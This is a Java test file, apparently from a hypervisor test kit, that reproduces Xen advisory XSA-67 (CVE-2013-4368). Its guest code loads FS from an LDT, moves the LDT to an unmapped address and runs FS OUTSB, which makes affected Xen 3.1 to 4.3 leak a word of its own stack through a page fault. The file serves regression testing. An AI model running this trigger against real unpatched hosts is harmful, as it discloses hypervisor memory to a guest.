package io.github.paravane.testkit.advisory.privileged;

import static io.github.paravane.testkit.asm.Gpr.EAX;
import static io.github.paravane.testkit.asm.Gpr.EDX;
import static io.github.paravane.testkit.asm.Gpr.R12;
import static io.github.paravane.testkit.asm.Gpr.RAX;
import static io.github.paravane.testkit.asm.Gpr.RSI;
import static io.github.paravane.testkit.asm.Memory.ptr;

import io.github.paravane.api.cpu.Trap;
import io.github.paravane.hypervisor.profiles.AbiProfiles;
import io.github.paravane.testkit.advisory.Advisory;
import io.github.paravane.testkit.advisory.BugGuest;
import io.github.paravane.testkit.advisory.GuestTrial;
import io.github.paravane.testkit.advisory.KnownBug;
import io.github.paravane.testkit.advisory.Layer;
import io.github.paravane.testkit.advisory.TableSteps;
import io.github.paravane.testkit.asm.Assembler;
import io.github.paravane.testkit.asm.Label;
import io.github.paravane.testkit.runtime.Hypercalls;
import io.github.paravane.testkit.runtime.TrapWord;

/** XSA-67: OUTS through FS whose descriptor cannot be read. */
final class StackInAddress {

    /** Nothing is mapped here. */
    private static final long LINEAR = 0x40_0000_0000L;

    /** A flat data segment of ring 3. */
    private static final long DATA_SEGMENT = 0x00CF_F300_0000_FFFFL;

    private static final int SELECTOR = 7;
    private static final int SET_IOPL = 6;
    private static final int PORT = 0x80;

    private StackInAddress() {}

    static KnownBug bug() {
        Advisory advisory = Advisory.of(
                        "xsa-67", Layer.PRIVILEGED, "OUTS through FS shows a word of the hypervisor's stack")
                .names("XSA-67", "CVE-2013-4368", "0771faba16")
                .mechanism("The emulation of OUTS in 64-bit code takes the base of FS or GS from the descriptor, and "
                        + "does not look whether it could read that. If not, the base is what happened to lie on its "
                        + "stack, and the page fault that follows tells it to the guest.")
                .construction("FS is loaded from an LDT, which is then put where no page is; FS OUTSB with IOPL 1.")
                .telling("#PF at an address of the hypervisor, or #GP. Since 4.9 the processor's base is used, and "
                        + "the instruction is emulated.")
                .affected("3.1 to 4.3")
                .repaired("4.4 (0771faba16)")
                .provenance("XSA-67; Xen commits 8d6e195a2d and 0771faba16")
                .build();
        return new KnownBug(
                advisory, AbiProfiles.XEN_4_3, AbiProfiles.XEN_4_5, GuestTrial.of(BugGuest.elf(StackInAddress::guest)));
    }

    private static void guest(BugGuest guest) {
        TableSteps steps = new TableSteps(guest);
        Assembler asm = guest.asm();
        Label ldt = steps.page("ldt");
        Label request = guest.label();
        Label caught = guest.label();
        guest.runtime().data(() -> asm.align(8).bind(request).u32(1).u32(0));
        guest.runtime().call(Hypercalls.PHYSDEV_OP, SET_IOPL, request);
        steps.require("set_iopl");
        steps.load(RAX, DATA_SEGMENT);
        asm.mov(ptr(ldt), RAX);
        steps.freeze(ldt);
        guest.runtime().extended(Hypercalls.SET_LDT, ldt, 1);
        steps.require("SET_LDT");
        asm.mov(EAX, SELECTOR).bytes(0x8E, 0xE0);
        steps.load(R12, LINEAR);
        guest.runtime().extended(Hypercalls.SET_LDT, R12, 1);
        steps.require("moving the LDT");
        guest.runtime()
                .attempt(caught, () -> asm.mov(EDX, PORT).lea(RSI, ptr(ldt)).bytes(0x64, 0x6E));
        guest.success("the base is that of the processor");
        asm.bind(caught);
        guest.evidence("vector", TrapWord.VECTOR).evidence("cr2", TrapWord.CR2);
        guest.load(RAX, TrapWord.VECTOR);
        guest.judge(RAX, Trap.PF, "the page fault tells a word of the hypervisor's stack", Trap.GP, "#GP");
    }
}
